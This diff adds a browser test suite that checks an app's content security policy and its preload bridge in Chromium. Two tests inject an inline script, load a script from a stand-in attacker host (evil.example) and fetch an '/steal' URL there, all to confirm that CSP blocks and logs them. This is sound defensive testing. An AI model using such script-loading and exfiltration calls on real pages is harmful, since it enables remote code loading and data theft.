@@ -1,0 +1,80 @@
+// The page's own protections, seen from inside Chromium: the CSP the app's protocol handler sends
+// is enforced on page-initiated code and every violation reaches main's log; the bridge holds one
+// function per contract channel.
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { eventChannels, invokeChannels } from '../../common/ipc-contract';
+import { launchChromium } from '../support/chromium';
+import { createHarness, startRendererServer, type Harness } from '../support/harness';
+
+let browser: Browser;
+let server: Awaited<ReturnType<typeof startRendererServer>>;
+let harness: Harness;
+
+beforeAll(async () => {
+  [browser, server] = await Promise.all([launchChromium(), startRendererServer()]);
+  harness = await createHarness(browser, { origin: server.origin });
+  await harness.open();
+});
+afterAll(async () => {
+  await harness?.close();
+  await browser?.close();
+  await server?.close();
+});
+
+async function waitForLog(pattern: RegExp): Promise<string | undefined> {
+  for (let i = 0; i < 100; i++) {
+    const line = harness.logs.find((l) => pattern.test(l));
+    if (line) return line;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  return undefined;
+}
+
+describe('content security policy in the page', () => {
+  it('blocks an injected inline script and reports it to main', async () => {
+    // The page itself inserts the script (Playwright's own evaluate is exempt from CSP; the
+    // inserted element is not).
+    const ran = await harness.page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__injected = true';
+      document.body.append(script);
+      await new Promise((r) => setTimeout(r, 100));
+      return (window as unknown as { __injected?: boolean }).__injected === true;
+    });
+    expect(ran).toBe(false);
+    expect(await waitForLog(/csp: script-src-elem blocked inline/)).toBeTruthy();
+  });
+
+  it('blocks scripts and connections to hosts outside the policy', async () => {
+    const result = await harness.page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/x.js';
+      const loaded = await new Promise<boolean>((resolve) => {
+        script.onload = () => resolve(true);
+        script.onerror = () => resolve(false);
+        document.body.append(script);
+      });
+      const fetched = await fetch('https://evil.example/steal').then(
+        () => true,
+        () => false,
+      );
+      return { loaded, fetched };
+    });
+    expect(result).toEqual({ loaded: false, fetched: false });
+    expect(await waitForLog(/csp: connect-src blocked https:\/\/evil\.example/)).toBeTruthy();
+  });
+
+  it('gives the page one narrow function per contract channel, and nothing else', async () => {
+    const shape = await harness.page.evaluate(() => {
+      const bridge = (window as unknown as { doorway: Record<string, unknown> }).doorway;
+      const on = bridge.on as Record<string, unknown>;
+      return {
+        invokes: Object.entries(bridge).filter(([key]) => key !== 'on').map(([key, value]) => `${key}:${typeof value}`).sort(),
+        events: Object.entries(on).map(([key, value]) => `${key}:${typeof value}`).sort(),
+      };
+    });
+    expect(shape.invokes).toEqual(Object.keys(invokeChannels).map((key) => `${key}:function`).sort());
+    expect(shape.events).toEqual(Object.keys(eventChannels).map((key) => `${key}:function`).sort());
+  });
+});
